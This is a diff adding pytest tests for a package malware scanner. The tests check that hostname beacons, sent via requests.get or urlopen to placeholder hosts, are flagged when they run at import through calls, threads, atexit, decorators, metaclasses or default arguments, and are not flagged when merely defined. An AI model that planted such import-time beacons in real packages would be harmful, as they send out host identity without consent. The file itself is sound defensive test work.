@@ -1,0 +1,142 @@
+"""Where code runs, across modules and at definition time.
+
+The behaviour used as a probe is a host-identity beacon: `requests.get` of a URL carrying
+`socket.gethostname()`. Run at import it is a critical finding (install-beacon); left in a function
+nobody calls unasked it is nothing. So each positive case asserts the beacon is judged at import time,
+and each benign twin asserts that the same function, only defined or imported, stays quiet. All
+addresses are TEST-NET (192.0.2.0/24); the archives are only read as bytes.
+"""
+
+from __future__ import annotations
+
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from custody.scan import Scanner, ScanTask, Verdict
+from custody.scan.roles import module_level_calls
+from tests.scan.builders import DEFAULT_NAME, write_sdist
+
+PKG = DEFAULT_NAME
+BEACON = """
+import socket
+import requests
+
+def beacon(*args, **kwargs):
+    requests.get("https://beacon.example.invalid/b?h=" + socket.gethostname())
+    return kwargs.get("cls") or (args[0] if args else None)
+"""
+
+
+def scan_files(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[str]]:
+    path = write_sdist(tmp_path, {k: textwrap.dedent(v) for k, v in files.items()})
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    return result.verdict, [f"{f.rule}:{f.severity.value}:{f.context}:{f.file}" for f in result.findings]
+
+
+def beacons_at_import(findings: list[str]) -> bool:
+    return any(f.startswith("install-beacon:critical") for f in findings)
+
+
+@pytest.mark.parametrize(
+    "init",
+    [
+        "from .net import beacon\nbeacon()\n",
+        "from .net import beacon as b\nVALUE = b()\n",
+        f"from {PKG}.net import beacon\nimport threading\nthreading.Thread(target=beacon).start()\n",
+        "from .net import beacon\nimport atexit\natexit.register(beacon)\n",
+        "from .net import beacon\n\n@beacon\ndef decorated():\n    pass\n",
+    ],
+    ids=["call", "alias", "thread", "atexit", "decorator"],
+)
+def test_function_called_at_import_from_another_module_runs_at_import(tmp_path: Path, init: str) -> None:
+    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
+    assert verdict is Verdict.MALICIOUS, findings
+    assert beacons_at_import(findings), findings
+
+
+def test_function_only_imported_stays_call_time(tmp_path: Path) -> None:
+    init = "from .net import beacon\n\n__all__ = ['beacon']\n\ndef later():\n    beacon()\n"
+    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
+    assert not beacons_at_import(findings), findings
+    assert verdict is not Verdict.MALICIOUS, findings
+
+
+def test_chain_of_modules_each_calling_the_next_at_import(tmp_path: Path) -> None:
+    files = {
+        f"{PKG}/__init__.py": "from .a import start\nstart()\n",
+        f"{PKG}/a.py": "from .b import middle\n\ndef start():\n    return 1\n\nmiddle()\n",
+        f"{PKG}/b.py": "from .net import beacon\n\ndef middle():\n    return 2\n\nbeacon()\n",
+        f"{PKG}/net.py": BEACON,
+    }
+    verdict, findings = scan_files(tmp_path, files)
+    assert beacons_at_import(findings), findings
+    assert verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "module",
+    [
+        BEACON + "\ndef handler(x=beacon()):\n    return x\n",
+        BEACON + "\nclass Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
+        "        beacon()\n        return super().__new__(mcs, name, bases, ns)\n\n"
+        "class Model(metaclass=Meta):\n    pass\n",
+        BEACON + "\nclass Base:\n    def __init_subclass__(cls, **kw):\n        beacon()\n\n"
+        "class Child(Base):\n    pass\n",
+        BEACON + "\nclass Field:\n    def __set_name__(self, owner, name):\n        beacon()\n\n"
+        "class Record:\n    field = Field()\n",
+        BEACON + "\n@beacon\nclass Plugin:\n    pass\n",
+    ],
+    ids=["default-argument", "metaclass", "init-subclass", "set-name", "class-decorator"],
+)
+def test_definition_time_code_runs_at_import(tmp_path: Path, module: str) -> None:
+    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/models.py": module})
+    assert beacons_at_import(findings), findings
+    assert verdict is Verdict.MALICIOUS
+
+
+def test_definition_time_benign_twin_classes_and_defaults_without_calls(tmp_path: Path) -> None:
+    module = (
+        BEACON
+        + "\ndef handler(x=None, retries=3):\n    return x\n\n"
+        + "class Meta(type):\n    pass\n\nclass Model(metaclass=Meta):\n"
+        + "    def refresh(self):\n        beacon()\n"
+    )
+    verdict, findings = scan_files(tmp_path, {f"{PKG}/__init__.py": "", f"{PKG}/models.py": module})
+    assert not beacons_at_import(findings), findings
+    assert verdict is not Verdict.MALICIOUS
+
+
+def test_module_level_calls_reads_imports_and_top_level_uses() -> None:
+    source = (
+        b"from .utils import f, g as h\n"
+        b"from pkg.net import (send,\n   recv)\n"
+        b"import os\n"
+        b"x = h(1)\n"
+        b"f()\n"
+        b"threading.Thread(target=send).start()\n"
+        b"def k():\n    recv()\n"
+    )
+    assert module_level_calls(source, "pkg") == {"pkg.utils": {"f", "g"}, "pkg.net": {"send"}}
+    assert module_level_calls(b"from .utils import f\n\ndef k():\n    f()\n", "pkg") == {}
+
+
+PROBE = (
+    "import socket, urllib.request\n"
+    "urllib.request.urlopen('https://x.example.invalid/?h=' + socket.gethostname())\n"
+)
+
+
+def test_the_projects_own_package_is_not_test_code_by_its_name(tmp_path: Path) -> None:
+    name = "probe-api-test"
+    init = PROBE
+    path = write_sdist(tmp_path, {"probe_api_test/__init__.py": init}, name=name, with_package=False)
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    assert result.verdict is Verdict.MALICIOUS, result.findings
+
+
+def test_a_tests_folder_inside_the_package_stays_test_code(tmp_path: Path) -> None:
+    path = write_sdist(tmp_path, {f"{PKG}/tests/test_probe.py": PROBE, f"{PKG}/tests/__init__.py": ""})
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    assert result.verdict is not Verdict.MALICIOUS, result.findings
